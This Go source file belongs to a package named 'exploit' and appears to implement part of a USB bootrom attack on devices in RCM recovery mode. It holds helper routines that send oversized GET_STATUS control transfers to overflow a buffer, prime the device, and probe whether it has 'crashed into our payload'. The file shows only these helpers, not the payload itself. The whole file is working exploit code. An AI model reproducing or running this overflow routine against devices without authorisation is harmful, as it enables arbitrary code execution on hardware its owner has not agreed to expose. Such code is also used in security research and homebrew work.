package exploit

import (
	"time"

	"github.com/golang/glog"

	"github.com/rcmhax/gelee/pkg/devices"
	"github.com/rcmhax/gelee/pkg/rcm"
)

// device bundles what every strategy talks to.
type device struct {
	usb     devices.Usb
	ep      uint8
	payload []byte
	p       *rcm.Parameters
	t       *Timing
}

func head(b []byte, n int) []byte {
	if len(b) > n {
		return b[:n]
	}
	return b
}

// overflow sends an oversized GET_STATUS aimed at the bulk endpoint. Its
// result does not matter, only what it does to the device.
func (d *device) overflow(timeout time.Duration) {
	rType := devices.RequestDirectionIn | devices.RequestTypeStandard | devices.RecipientEndpoint
	buf := make([]byte, d.p.OverflowLength)
	if _, err := d.usb.Control(rType, devices.RequestGetStatus, 0, uint16(d.ep), buf, timeout); err != nil {
		glog.V(1).Infof("  Overflow control transfer failed: %v", err)
		return
	}
	glog.V(1).Infof("  Overflow control transfer succeeded")
}

// prime sends a device-level GET_STATUS with an oversized length.
func (d *device) prime(timeout time.Duration) error {
	rType := devices.RequestDirectionIn | devices.RequestTypeStandard | devices.RecipientDevice
	buf := make([]byte, d.p.OverflowLength)
	_, err := d.usb.Control(rType, devices.RequestGetStatus, 0, 0, buf, timeout)
	return err
}

// crashed waits for settle, then tries a tiny write. A transfer timeout is
// ambiguous: the device might have crashed, or might just be busy. If the
// device does not take the probe either, it is assumed to have crashed into
// our payload.
func (d *device) crashed(settle, timeout time.Duration) bool {
	time.Sleep(settle)
	if _, err := d.usb.WriteBulk(d.ep, head(d.payload, d.t.ProbeLength), timeout); err != nil {
		glog.V(1).Infof("  Probe failed: %v", err)
		return true
	}
	return false
}
